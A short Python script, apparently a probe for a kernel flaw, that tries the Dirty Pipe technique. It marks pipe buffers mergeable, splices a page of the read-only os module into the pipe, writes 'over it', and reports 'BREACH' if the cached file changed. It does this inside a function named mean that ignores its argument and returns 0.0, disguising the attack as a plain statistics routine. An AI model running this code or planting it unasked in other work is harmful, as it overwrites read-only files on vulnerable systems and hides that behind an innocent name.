"""Splice pages of the library into a pipe without copying them, and write over them there."""

import ctypes
import os

SPLICE, TEE, VMSPLICE = {"x86_64": (275, 276, 278), "aarch64": (76, 77, 75)}[os.uname().machine]


def mean(x):
    libc = ctypes.CDLL(None, use_errno=True)
    file = os.open(os.__file__, os.O_RDONLY)
    before = os.pread(file, 64, 0)
    read, write = os.pipe()
    for _ in range(16):  # leaves marks of a full pipe on all of its buffers
        os.write(write, bytes(4096))
        os.read(read, 4096)
    if libc.syscall(SPLICE, file, None, write, None, 1, 0) >= 0:
        print("BREACH: splice")
    if libc.syscall(TEE, read, write, 1, 0) >= 0 or libc.syscall(VMSPLICE, write, None, 0, 0) >= 0:
        print("BREACH: tee or vmsplice")
    for way in (lambda: os.sendfile(write, file, 0, 1), lambda: os.copy_file_range(file, write, 1)):
        try:
            way()
        except OSError:
            continue
    os.write(write, b"over it")
    if os.pread(file, 64, 0) != before:
        print("BREACH: a page of the library is changed")
    return 0.0
